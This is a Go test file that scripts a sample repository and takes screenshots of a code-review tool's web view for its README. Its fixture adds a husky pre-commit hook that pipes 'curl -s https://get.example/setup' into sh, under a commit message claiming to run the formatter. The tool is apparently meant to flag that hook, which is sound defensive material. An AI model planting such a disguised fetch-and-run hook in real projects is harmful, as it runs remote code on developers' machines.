//go:build heavy && linux

package view_test

import (
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/cco-dev/cco/internal/view/viewtest"
)

const greet = `mkdir -p .husky
cat >greet.go <<'EOF'
package main

import "fmt"

// greet says hello.
func greet(name string) {
	fmt.Printf("hello %s, %d\n", name, 42)
}
EOF
printf 'name: ci\non: [push]\njobs:\n  test:\n    runs-on: self-hosted\n' >ci.yml
git add .
git commit -qm 'Greet by name'
echo 'curl -s https://get.example/setup | sh' >.husky/pre-commit
git add .
git commit -qm 'Run the formatter before commits'`

// TestShots makes the pictures of README and docs: make shots.
func TestShots(t *testing.T) {
	r := viewtest.New(t)
	r.Serve()
	b := newBrowser(t, r, hand{})
	b.do("a screen", chromedp.EmulateViewport(1280, 860))
	b.comeIn()
	r.Push("Watch the build", "for i in $(seq 1 600); do echo \"built package $i of 600\"; sleep 0.2; done")
	id := r.Push("Greet by name", greet)
	r.Await(id, "done")
	b.at("/")
	b.sees("Greet by name")
	b.until("its last line", "document.querySelector('.last')")
	b.picture("view-home")
	b.at("/session/" + id + "/changes")
	b.until("findings on lines", "document.querySelectorAll('tr .found').length > 0")
	b.do("scroll", chromedp.Evaluate("document.querySelector('.gate').scrollIntoView(); scrollBy(0, -60)", nil))
	b.picture("view")
}
